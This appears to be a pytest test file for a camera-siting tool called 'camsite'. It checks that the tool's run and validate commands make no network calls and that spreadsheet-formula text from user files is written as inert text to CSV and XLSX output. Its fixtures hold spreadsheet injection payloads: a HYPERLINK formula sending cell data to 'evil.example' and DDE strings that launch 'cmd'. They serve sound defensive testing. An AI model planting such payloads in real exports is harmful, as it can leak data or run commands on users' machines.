"""Nothing leaks: no network use outside ``fetch-osm``, no live formulas in tables.

*Network.* ``camsite run`` and ``camsite validate`` run as real processes with
every Python socket connect and name lookup recorded and refused (a
``sitecustomize`` module), and with every proxy variable pointing at a trap
server on 127.0.0.1 that records any connection: GDAL and other C libraries
(libcurl) honour those variables, so a download they attempt is caught too.

*Formulas.* Text from user files (camera ids, sources, categories, sub-area
names and labels, scenario titles) that starts like a formula is written as
text to every CSV and workbook: a CSV cell gets the OWASP apostrophe, an XLSX
cell is a string cell.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from factory import CAMERAS_CSV, INCIDENTS_GEOJSON, fridhemsplan_data, invoke, one_error_line, write_scenario

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

SITECUSTOMIZE = '''
import os, socket
_LOG = os.environ["CAMSITE_TEST_NET_LOG"]
def _record(what):
    with open(_LOG, "a", encoding="utf-8") as fh:
        fh.write(what + "\\n")
def _guard(name, original):
    def guarded(self, address, *args):
        if self.family in (socket.AF_INET, socket.AF_INET6):
            _record(f"{name} {address!r}")
            raise OSError("network use is forbidden in this test")
        return original(self, address, *args)
    return guarded
socket.socket.connect = _guard("connect", socket.socket.connect)
socket.socket.connect_ex = _guard("connect_ex", socket.socket.connect_ex)
_getaddrinfo = socket.getaddrinfo
def _lookup(host, *args, **kwargs):
    _record(f"getaddrinfo {host!r}")
    raise socket.gaierror("name lookups are forbidden in this test")
socket.getaddrinfo = _lookup
'''


class Trap:
    """A TCP server on 127.0.0.1 that records every connection made to it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.hits = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.hits += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


@pytest.fixture
def offline(tmp_path: Path) -> Iterator[tuple[dict[str, str], Path, Trap]]:
    """(environment for a guarded subprocess, its log of attempted network use, the proxy trap)."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "sitecustomize.py").write_text(SITECUSTOMIZE, encoding="utf-8")
    log = tmp_path / "net.log"
    trap = Trap()
    proxy = f"http://127.0.0.1:{trap.port}"
    env = {k: v for k, v in os.environ.items() if k.lower() != "no_proxy"}
    env.update(PYTHONPATH=os.pathsep.join([str(site), env.get("PYTHONPATH", "")]), CAMSITE_TEST_NET_LOG=str(log),
               http_proxy=proxy, https_proxy=proxy, ftp_proxy=proxy, all_proxy=proxy, HTTP_PROXY=proxy,
               HTTPS_PROXY=proxy, ALL_PROXY=proxy, GDAL_HTTP_PROXY=f"127.0.0.1:{trap.port}")
    yield env, log, trap
    trap.close()


def camsite(env: dict[str, str], *args: object) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "camsite", *map(str, args)], capture_output=True, text=True,
                          env=env, timeout=300)


def test_guard_catches_python_and_c_level_connections(offline: tuple[dict[str, str], Path, Trap]) -> None:
    """The guard itself works: a Python connect is recorded, and so is a libcurl download through GDAL."""
    env, log, trap = offline
    code = ("import socket\ntry:\n    socket.socket().connect(('192.0.2.1', 80))\nexcept OSError:\n    pass\n"
            "import pyogrio\ntry:\n    pyogrio.read_info('/vsicurl/http://example.invalid/x.geojson')\n"
            "except Exception:\n    pass\n")
    subprocess.run([sys.executable, "-c", code], env=env, timeout=60, check=True)
    assert "connect ('192.0.2.1', 80)" in log.read_text(encoding="utf-8")
    assert trap.hits >= 1  # GDAL went to the proxy: a C-level download would be seen


def test_run_and_validate_use_no_network(offline: tuple[dict[str, str], Path, Trap], tmp_path: Path) -> None:
    env, log, trap = offline
    # 350 m, not 300: there the 50 % target point waits out its 3 s time limit (the run is about the network)
    scen = write_scenario(tmp_path, fridhemsplan_data(
        radius_m=350, name="offline",
        optimization={"budget_sek": 500000, "budget_sweep": {"start": 250000, "stop": 750000, "step": 250000}}))
    run = camsite(env, "run", scen, "--out", tmp_path / "out", "--no-progress")
    assert run.returncode == 0, run.stderr
    assert (tmp_path / "out" / "report.html").is_file()
    check = camsite(env, "validate", scen)
    assert check.returncode == 0, check.stderr
    assert not log.exists(), log.read_text(encoding="utf-8")
    assert trap.hits == 0


def test_geojson_crs_link_is_refused_without_fetching(offline: tuple[dict[str, str], Path, Trap],
                                                      tmp_path: Path) -> None:
    """A ``crs`` member of type link (GDAL would download it) is one error line for run and validate."""
    env, log, trap = offline
    doc = json.loads(INCIDENTS_GEOJSON.read_text(encoding="utf-8"))
    doc["crs"] = {"type": "link", "properties": {"href": f"http://127.0.0.1:{trap.port}/crs.wkt", "type": "ogcwkt"}}
    scen = write_scenario(tmp_path, fridhemsplan_data(name="linked", incidents=[{"name": "polisen",
                                                                                   "path": "linked.geojson"}]),
                          files={"linked.geojson": json.dumps(doc)})
    for args in (["run", scen, "--out", tmp_path / "out", "--no-progress"], ["validate", scen]):
        proc = camsite(env, *args)
        one_error_line(proc.stderr, proc.returncode, 2, "linked.geojson", '"crs" member links to a URL')
    assert not (tmp_path / "out").exists()
    assert not log.exists() and trap.hits == 0


# -- formulas -----------------------------------------------------------------------------------------------------

EVIL = {"camera": '=HYPERLINK("http://evil.example/?"&A1,"klicka")', "source": "+cmd|' /C calc'!A0",
        "area": "@SUM(1+1)*cmd|' /C calc'!A0", "label": "-2+3+cmd|' /C calc'!A0", "title": "=1+1",
        "category": "=2+5", "name": "-evil"}


def _csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_formula_text_is_never_live(tmp_path: Path) -> None:
    cams = CAMERAS_CSV.read_text(encoding="utf-8").replace("ILL-01", '"' + EVIL["camera"].replace('"', '""') + '"')
    doc = json.loads(INCIDENTS_GEOJSON.read_text(encoding="utf-8"))
    for f in doc["features"][::3]:
        f["properties"]["category"] = EVIL["category"]
    data = fridhemsplan_data(
        radius_m=400, name=EVIL["name"], title=EVIL["title"],
        existing_cameras={"path": "cams.csv", "source": EVIL["source"], "default_type": "ptz_dome"},
        incidents=[{"name": "polisen", "path": "inc.geojson", "source": EVIL["source"]}],
        category_weights={EVIL["category"]: 1.0, "vald": 1.0},
        subareas=[{"name": EVIL["area"], "label": EVIL["label"], "source": EVIL["source"],
                   "polygon": [[18.0235, 59.3295], [18.0385, 59.3295], [18.0385, 59.3365], [18.0235, 59.3365]]}],
        optimization={"budget_sek": 500000, "budget_sweep": {"start": 250000, "stop": 750000, "step": 250000},
                      "stages": [250000, 250000]})
    scen = write_scenario(tmp_path, data, files={"cams.csv": cams, "inc.geojson": json.dumps(doc)})
    # in process: what is written is the subject (the network tests above run real processes)
    res = invoke("run", scen, "--out", tmp_path / "a", "--no-progress")
    assert res.exit_code == 0, res.stderr
    shutil.copytree(tmp_path / "a", tmp_path / "b")  # the second run compared: its texts are the same as a's
    res = invoke("compare", tmp_path / "a", tmp_path / "b", "--out", tmp_path / "cmp")
    assert res.exit_code == 0, res.stderr
    tables = [*sorted((tmp_path / "a").glob("*.csv")), tmp_path / "cmp" / "compare.csv"]
    assert {p.name for p in tables} >= {"sites.csv", "budget_curve.csv", "stages.csv", "compare.csv"}
    for path in tables:
        live = [c for c in _csv_cells(path) if c.startswith(FORMULA_STARTS) and not _is_number(c)]
        assert live == [], (path.name, live)
    compare = _csv_cells(tmp_path / "cmp" / "compare.csv")
    assert "'" + EVIL["name"] in compare  # the text is there, neutralised
    assert any(EVIL["area"] in c for c in compare) and any(EVIL["label"] in c for c in compare)
    book = openpyxl.load_workbook(tmp_path / "a" / "inventory.xlsx")
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for key in ("camera", "source", "label"):
        assert any(EVIL[key] in t for t in texts), key  # shown as the user wrote it, but as text
